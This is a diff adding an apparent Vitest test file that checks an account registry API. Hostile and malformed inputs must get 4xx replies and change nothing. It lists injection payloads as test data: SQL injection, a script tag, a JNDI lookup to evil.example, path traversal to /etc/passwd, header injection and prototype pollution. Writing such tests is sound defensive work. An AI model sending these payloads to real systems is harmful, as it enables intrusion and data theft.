@@ -1,0 +1,101 @@
+import { describe, expect, inject, it } from 'vitest';
+import { accountBody, callerAs, inAYear, personBody, registryFixture, uniqueId, type Caller } from '../support/api.ts';
+
+/**
+ * Malformed and hostile input across the write routes (and some reads): every one gets a 4xx with a message,
+ * none a 5xx, and nothing changes: the caller that sent them has no audit event at all afterwards (every
+ * change of state writes one, in the same transaction).
+ */
+const cloud = inject('localCloud');
+
+const injections = ["' OR '1'='1", '"; DROP TABLE accounts; --', '<script>alert(1)</script>', '${jndi:ldap://evil.example/a}', '../../etc/passwd', '{"$ne":null}', '%00', '\r\nSet-Cookie: x=1', 'ＡＤＭＩＮ', '🦄'.repeat(70)];
+const invisible = ['nul\u0000byte', 'bidi\u202Eoverride', 'zero\u200Bwidth', 'bell\u0007', 'x'.repeat(20_000)];
+const wrongTypes = [42, true, [], {}, null];
+
+/** Values no strict field (id, email, date, enum, URL, handle) may accept. */
+const strictHostile = [...injections, ...invisible, ...wrongTypes, ''];
+/** Values no free-text field may accept (ordinary punctuation and markup are legitimate text). */
+const textHostile = [...invisible, ...wrongTypes, '', '   '];
+
+interface Case {
+  name: string;
+  method: string;
+  path: string;
+  body?: unknown;
+  rawBody?: string;
+  contentType?: string;
+  ifMatch?: string;
+}
+
+function fieldCases(name: string, method: string, path: string, valid: Record<string, unknown>, strict: string[], text: string[], required: string[]): Case[] {
+  const cases: Case[] = [];
+  for (const field of strict) for (const value of strictHostile) cases.push({ name: `${name} ${field}=${JSON.stringify(value).slice(0, 30)}`, method, path, body: { ...valid, [field]: value } });
+  for (const field of text) for (const value of textHostile) cases.push({ name: `${name} ${field}=${JSON.stringify(value).slice(0, 30)}`, method, path, body: { ...valid, [field]: value } });
+  for (const field of required) {
+    const { [field]: _dropped, ...rest } = valid;
+    cases.push({ name: `${name} without ${field}`, method, path, body: rest });
+  }
+  cases.push({ name: `${name} with an unknown field`, method, path, body: { ...valid, isAdmin: true } });
+  cases.push({ name: `${name} with __proto__`, method, path, rawBody: JSON.stringify(valid).replace(/^\{/, '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}},') });
+  for (const body of [[], 'text', 7, null]) cases.push({ name: `${name} with body ${JSON.stringify(body)}`, method, path, body });
+  return cases;
+}
+
+function envelopeCases(path: string, method: string, valid: unknown): Case[] {
+  return [
+    { name: `${method} ${path} invalid JSON`, method, path, rawBody: '{"a":' },
+    { name: `${method} ${path} not JSON`, method, path, rawBody: JSON.stringify(valid), contentType: 'text/plain' },
+    { name: `${method} ${path} form-encoded`, method, path, rawBody: 'a=1', contentType: 'application/x-www-form-urlencoded' },
+    { name: `${method} ${path} oversized`, method, path, rawBody: JSON.stringify({ ...(valid as object), purpose: 'x'.repeat(70 * 1024) }) },
+    { name: `${method} ${path} bad If-Match`, method, path, body: valid, ifMatch: 'not-a-version' },
+  ];
+}
+
+describe('hostile and malformed input', () => {
+  it('is refused with a 4xx and a message, never a 5xx, and changes nothing', async () => {
+    const fx = await registryFixture(cloud);
+    const attackerId = uniqueId('attacker');
+    const attacker: Caller = await callerAs(cloud, attackerId, ['admin', 'hr']);
+    const person = personBody(uniqueId('ok'));
+    const account = accountBody(fx.ownerId);
+    const grant = { personId: fx.ownerId, role: 'viewer', reason: 'r' };
+    const policy = { id: uniqueId('pol'), title: 'T', kind: 'policy', documentVersion: '1', documentUrl: 'https://intranet.example.com/p', covers: { all: true }, reviewCadence: 'annual', ownerId: fx.adminId, nextReviewAt: inAYear() };
+    const a = `/accounts/${fx.account.id}`;
+
+    const cases: Case[] = [
+      ...fieldCases('POST /people', 'POST', '/people', person, ['id', 'email', 'managerId', 'trainingExpiresAt'], ['name', 'team'], ['id', 'email', 'name', 'team']),
+      ...fieldCases('POST /accounts', 'POST', '/accounts', account, ['platform', 'handle', 'platformAccountId', 'url', 'scope', 'ownerId', 'riskTier', 'backupOwnerId'], ['displayName', 'purpose', 'team'], ['platform', 'handle', 'ownerId', 'riskTier']),
+      ...fieldCases('PATCH account', 'PATCH', a, { purpose: 'p' }, ['ownerId', 'riskTier', 'url', 'status'], ['purpose'], []),
+      ...fieldCases('POST grant', 'POST', `${a}/grants`, grant, ['personId', 'role', 'expiresAt'], ['reason'], ['personId', 'role', 'reason']),
+      ...fieldCases('PUT credential', 'PUT', `${a}/credential`, { username: 'u', password: 'not-a-real-one' }, ['totpSeed'], ['username'], ['username', 'password']),
+      ...fieldCases('POST /policies', 'POST', '/policies', policy, ['id', 'kind', 'documentUrl', 'reviewCadence', 'ownerId', 'nextReviewAt'], ['title'], ['id', 'title', 'documentUrl']),
+      ...envelopeCases('/people', 'POST', person),
+      ...envelopeCases(a, 'PATCH', { purpose: 'p' }),
+      { name: 'import not a list', method: 'POST', path: '/people/import', body: { people: 'everyone' } },
+      { name: 'import empty', method: 'POST', path: '/people/import', body: { people: [] } },
+      ...['-1', '0', '101', 'abc', '1e3'].map((limit) => ({ name: `limit=${limit}`, method: 'GET', path: `/accounts?limit=${limit}` })),
+      ...['garbage!!', Buffer.from(JSON.stringify({ pk: 'PERSON#x', sk: 'PERSON' })).toString('base64url'), 'e30'].map((next) => ({ name: `next=${next}`, method: 'GET', path: `/people?next=${next}` })),
+      ...injections.slice(0, 6).map((value) => ({ name: `path ${value}`, method: 'PATCH', path: `/people/${encodeURIComponent(value)}`, body: { team: 't' } })),
+    ];
+    expect(cases.length).toBeGreaterThanOrEqual(200);
+
+    const failures: string[] = [];
+    for (const c of cases) {
+      const response = await attacker(c.method, c.path, { body: c.body, rawBody: c.rawBody, contentType: c.contentType, ifMatch: c.ifMatch });
+      const explained = typeof response.body === 'object' && response.body !== null && typeof response.body.message === 'string' && response.body.message.length > 0;
+      if (response.status < 400 || response.status >= 500 || !explained) failures.push(`${c.name}: ${response.status} ${response.text.slice(0, 120)}`);
+    }
+    expect(failures).toEqual([]);
+
+    // Nothing changed: no audit event by the attacker, and the fixture account is as it was.
+    const events = [];
+    let next: string | undefined;
+    do {
+      const page = (await fx.admin('GET', `/audit?limit=100${next ? `&next=${next}` : ''}`)).body;
+      events.push(...page.items);
+      next = page.next;
+    } while (next);
+    expect(events.filter((e) => e.actor === attackerId)).toEqual([]);
+    expect((await fx.admin('GET', a)).body.version).toBe(fx.account.version);
+  });
+});
